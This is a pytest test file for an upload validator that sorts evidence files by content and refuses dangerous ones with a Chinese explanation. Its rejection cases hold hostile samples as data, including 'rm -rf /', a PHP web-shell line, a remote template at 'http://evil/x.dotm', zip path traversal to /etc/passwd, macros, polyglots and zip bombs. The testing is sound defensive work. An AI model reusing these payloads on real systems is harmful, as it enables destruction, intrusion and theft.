"""What a file may be: by its content; the name must agree; whatever could run is refused, with the remedy."""

import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.evidence import corpus as c
from zhenggai.evidence import kinds
from zhenggai.evidence.kinds import FileRefused, kind_of

MEGABYTE = 1024 * 1024


def kind(name, data, largest=20 * MEGABYTE):
    return kind_of(name, data, largest=largest)


GOOD = [
    ("报告.pdf", c.PDF, "pdf"),
    ("方案.docx", c.docx(), "docx"),
    ("台账.xlsx", c.xlsx(), "xlsx"),
    ("发票.ofd", c.ofd(), "ofd"),
    ("通知.doc", c.ole("WordDocument", "1Table"), "doc"),
    ("通知.wps", c.ole("WordDocument"), "doc"),
    ("表.xls", c.ole("Workbook"), "xls"),
    ("大表.xls", c.ole("Workbook", padding=16_000), "xls"),
    ("表.et", c.ole("Book"), "xls"),
    ("说明.txt", c.TEXT, "txt"),
    ("说明.txt", "整改情况".encode("gb18030"), "txt"),
    ("说明.txt", "整改情况".encode("utf-16"), "txt"),
    ("说明.txt", "MZ 县、BMW 车辆处置情况".encode(), "txt"),
    ("表.csv", "单位,数\n甲,1\n".encode(), "csv"),
    ("照片.jpg", c.JPG, "jpg"),
    ("照片.JPEG", c.JPG, "jpg"),
    ("截图.png", c.PNG, "png"),
    ("动图.png", c.PNG[:33] + b"\0\0\0\x08acTL" + b"\0" * 12 + c.PNG[33:], "png"),
    ("图.webp", c.WEBP, "webp"),
    ("手机照片.heic", c.HEIC, "heic"),
    ("现场.mp4", c.MP4, "mp4"),
    ("录音.mp3", c.MP3, "mp3"),
    ("材料.zip", c.zipped({"甲/报告.pdf": c.PDF, "乙.docx": c.docx(), "空.txt": b""}), "zip"),
    ("材料.zip", c.zipped({"内.zip": c.zipped({"a.txt": c.TEXT})}), "zip"),
    ("材料.zip", c.zipped({".DS_Store": b"\0\0\0\1Bud1\0\0", "__MACOSX/._a.txt": b"\0\5\x16\7\0\2", "a.txt": c.TEXT}), "zip"),
    ("没有扩展名", c.PDF, "pdf"),
    ("关于整改的报告.第二稿", c.PDF, "pdf"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data", "code"), GOOD)
def test_kept(name, data, code):
    found = kind(name, data)
    assert found.code == code
    assert kinds.KINDS[code] is found


BAD = [
    # name, bytes, reason, words of the sentence
    ("空.pdf", b"", "empty", "是空的"),
    ("大.png", c.PNG + b"\0" * MEGABYTE, "too_large", "超过上限 1 MB"),
    ("报告.pdf.exe", c.EXE, "active_name", r"扩展名 \.exe 属于程序"),
    ("报告.pdf", c.EXE, "executable", "是Windows 程序"),
    ("报告", c.ELF, "executable", "是Linux 程序"),
    ("病毒.txt", c.EICAR, "executable", "是病毒测试程序"),
    ("快捷方式.pdf", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, "executable", "快捷方式"),
    ("说明.txt", b"#!/bin/sh\nrm -rf /\n", "script", "是脚本"),
    ("说明.txt", b"@echo off\r\ndel *\r\n", "script", "是脚本"),
    ("脚本.js", b"alert(1)", "active_name", r"\.js"),
    ("图.svg", c.SVG, "active_name", r"\.svg"),
    ("图.txt", c.SVG, "page", "网页（HTML、SVG）"),
    ("图", b"<?xml version='1.0'?>\n" + c.SVG, "page", "SVG"),
    ("页.txt", c.HTML, "page", "HTML"),
    ("页.txt", c.HTML.decode().encode("utf-16"), "page", "HTML"),
    ("表.xls", c.HTML, "page", "HTML"),
    ("报告.pdf", c.docx(), "name_contradicts", r"扩展名是 \.pdf，内容却是Word 文档.*改为 \.docx 再上传"),
    ("照片.jpg", c.PNG, "name_contradicts", r"改为 \.png"),
    ("方案.docm", c.docx(), "active_name", r"\.docm"),
    ("报告\u202efdp.exe", c.PDF, "name_unseen", "看不见的控制字符"),
    # macros and what hides in office files
    ("方案.docx", c.docx(word__vbaProject_bin=b"x"), "macros", "宏"),
    ("方案.docx", c.zipped({"[Content_Types].xml": b'"application/vnd.ms-word.document.macroEnabled.main+xml"',
                            "word/document.xml": b"<x/>"}), "macros", "启用宏"),
    ("台账.xlsx", c.xlsx(**{"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros", "宏"),
    ("台账.xlsx", c.xlsx(**{"xl/media/image1.png": c.EXE}), "embedded", "内藏有程序"),
    ("方案.docx", c.docx(word__embeddings__oleObject1_bin=c.ole("\x01Ole10Native")), "embedded", "内嵌了打包"),
    ("方案.docx", c.zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<x/>",
               "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r" TargetMode="External" Type="http://x/relationships/attachedTemplate"'
                                               b' Target="http://evil/x.dotm"/></Relationships>'}), "remote", "从别处取模板"),
    ("通知.doc", c.ole("WordDocument", "Macros", "_VBA_PROJECT"), "macros", "宏"),
    ("表.xls", c.ole("Workbook", "_VBA_PROJECT_CUR"), "macros", "宏"),
    ("通知.doc", c.ole("WordDocument", "\x01Ole10Native"), "embedded", "内嵌"),
    ("方案.docx", c.ole("EncryptedPackage", "EncryptionInfo"), "encrypted", "去掉密码"),
    ("通知.doc", c.ole("WordDocument")[:600], "damaged", "结构不完整"),
    ("通知.doc", c.ole("__properties_version1.0"), "foreign", "其他 OLE 文件"),
    ("汇报.ppt", c.ole("PowerPoint Document"), "foreign", "另存为 PDF"),
    ("汇报.pptx", c.zipped({"[Content_Types].xml": b"<x/>", "ppt/presentation.xml": b"<x/>"}), "foreign", "另存为 PDF"),
    # two kinds at once
    ("报告.pdf", c.PDF + c.zipped({"a.exe": c.EXE}), "polyglot", "既是PDF 文件又是压缩包"),
    ("报告.pdf", b"%PDF-1.4\n" + c.HTML + c.PDF, "polyglot", "网页或脚本"),
    ("报告.pdf", c.PDF + c.HTML, "polyglot", "网页或脚本"),
    ("照片.jpg", c.JPG[:-2] + c.PDF + c.JPG[-2:], "polyglot", "又是 PDF"),
    ("照片.png", c.PNG + c.zipped({"a.class": b"x"}), "polyglot", "又是压缩包"),
    ("图种.jpg", c.JPG + b"Rar!\x1a\x07\0" + b"\0" * 2000, "polyglot", "又是压缩包"),
    ("大表.xls", c.ole("Workbook", *"abcdefg", "Macros", padding=16_000), "macros", "宏"),
    ("照片.jpg", c.JPG + b"<?php system($_GET[0]);", "polyglot", "脚本"),
    ("材料.zip", b"PK\x03\x04" + c.HTML + c.zipped({"a.txt": c.TEXT}), "polyglot", "前面还藏有"),
    ("材料.zip", c.zipped({"a.txt": c.TEXT}) + c.HTML, "polyglot", "后面还藏有"),
    ("方案.docx", c.zipped({"%PDF-1.4": b"", "[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"}), "polyglot", "又含 PDF"),
    ("说明.txt", c.TEXT + c.PDF, "polyglot", "后面是 PDF"),
    # archives
    ("弹.zip", c.bomb(), "bomb", "疑似压缩炸弹"),
    ("弹.zip", c.zipped({"内.zip": c.bomb()}), "bomb", "弹.zip 内的 内.zip”解开后超过"),
    ("弹.docx", c.docx(word__media_bin=b"\0" * 70 * MEGABYTE), "bomb", "解开后过大"),
    ("多.zip", c.zipped({f"{n}.txt": b"x" for n in range(2001)}), "too_many", "超过 2000 个"),
    ("深.zip", c.zipped({"1.zip": c.zipped({"2.zip": c.zipped({"a.txt": c.TEXT})})}), "too_deep", "第 3 层"),
    ("密.zip", c.encrypted(c.zipped({"a.txt": c.TEXT})), "encrypted", "去掉密码"),
    ("路.zip", c.zipped({"../../etc/passwd": c.TEXT}), "path", "写到压缩包以外"),
    ("路.zip", c.zipped({"/etc/passwd": c.TEXT}), "path", "写到压缩包以外"),
    ("路.zip", c.named(c.zipped({"a/../b.txt": c.TEXT}), b"a/../b", b"..\\..b").replace(b"..\\..b", b"x\\..\\b"), "path", "写到压缩包以外"),
    ("路.zip", c.zipped({"C:/windows/a.txt": c.TEXT}), "path", "写到压缩包以外"),
    ("内.zip", c.zipped({"甲/病毒.exe": c.EXE}), "active_name", "“内.zip 内的 甲/病毒.exe”"),
    ("内.zip", c.zipped({"说明.txt": c.EXE}), "executable", "“内.zip 内的 说明.txt”是Windows 程序"),
    ("内.zip", c.zipped({"a.zip": c.zipped({"图.txt": c.SVG})}), "page", "内.zip 内的 a.zip 内的 图.txt"),
    ("内.zip", c.zipped({".DS_Store": c.EXE}), "executable", "程序"),
    ("空.zip", c.zipped({}), "empty", "没有文件"),
    ("坏.zip", c.zipped({"a.txt": c.TEXT * 99})[:60], "damaged", "没有传完"),
    ("坏.zip", c.zipped({"a.txt": c.TEXT}).replace(c.zipped({"a.txt": c.TEXT})[35:45], b"\xff" * 10), "damaged", "压缩结构不完整"),
    # not ours
    ("材料.rar", b"Rar!\x1a\x07\0", "foreign", r"重新压缩为 \.zip"),
    ("材料.7z", b"7z\xbc\xaf\x27\x1c\0\x04", "foreign", r"\.zip"),
    ("扫描.tif", b"II*\0\x08\0\0\0", "foreign", r"\.jpg 或 \.png"),
    ("录像.mov", c.MOV, "foreign", r"转存为 \.mp4"),
    ("文档.rtf", b"{\\rtf1 x}", "foreign", r"\.docx"),
    ("什么.dat", b"\0\1\2\3\4\5\6\7", "foreign", "无法识别"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data", "reason", "words"), BAD)
def test_refused_with_the_remedy(name, data, reason, words):
    with pytest.raises(FileRefused) as refused:
        kind(name, data, largest=MEGABYTE if reason == "too_large" else 60 * MEGABYTE)
    assert refused.value.facts["reason"] == reason, refused.value.sentence
    assert re.search(words, refused.value.sentence)
    assert refused.value.sentence.startswith("文件“")
    assert refused.value.sentence.endswith("。")
    assert "请" in refused.value.sentence or "可上传" in refused.value.sentence


def test_links_in_archives_are_refused():
    import io

    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        link = zipfile.ZipInfo("a.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    with pytest.raises(FileRefused, match="是链接"):
        kind("链.zip", target.getvalue())


def test_names_of_chinese_windows_are_told_as_they_were_meant():
    data = c.zipped({"XXXX.exe": c.EXE}).replace(b"XXXX", "病毒".encode("gb18030"))
    with pytest.raises(FileRefused, match="内的 病毒"):
        kind("内.zip", data)


def test_a_large_archive_of_films_with_a_small_one_is_no_bomb(monkeypatch):
    monkeypatch.setattr(kinds, "RATIO_FROM", 1000)
    film = c.MP4 + bytes(range(256)) * 400
    inner = c.zipped({"a.txt": c.TEXT})
    assert (
        kind("材料.zip", c.zipped({"片.mp4": film, "b.zip": inner}, method=zipfile.ZIP_STORED)).code == "zip"
    )


@given(st.sampled_from([data for _, data, _ in GOOD if len(data) < 5000]), st.data())
def test_damaged_files_are_refused_or_kept_and_nothing_else(data, draw):
    cut = bytearray(data)
    for _ in range(draw.draw(st.integers(1, 5))):
        cut[draw.draw(st.integers(0, len(cut) - 1))] = draw.draw(st.integers(0, 255))
    cut = cut[: draw.draw(st.integers(1, len(cut)))]
    try:
        kind("文件", bytes(cut))
    except FileRefused:
        return


def test_a_table_of_sectors_that_names_one_again_and_again_is_damage():
    data = bytearray(c.ole("WordDocument") + b"\0" * 512 * 1024)
    data[76 : 76 + 4 * 109] = b"\0\0\0\0" * 109
    with pytest.raises(FileRefused, match="结构不完整"):
        kind("通知.doc", bytes(data))


def test_a_directory_that_would_fill_the_memory_is_not_read():
    with pytest.raises(FileRefused, match="压缩结构不完整"):
        kind("长.zip", b"PK\x03\x04" + b"PK\x01\x02" * 50_000)
    with pytest.raises(FileRefused):
        kind(
            "长.xlsx",
            c.xlsx(
                **{"xl/_rels/workbook.xml.rels": b"<Relationship " * 100_000 + b"\0", "xl/activeX/a": b""}
            ),
        )


def test_what_office_in_the_browser_makes_is_a_document_too():
    data = c.zipped({"[Content_Types].xml": b"<x/>", "word/document2.xml": b"<x/>"})
    assert kind("方案.docx", data).code == "docx"
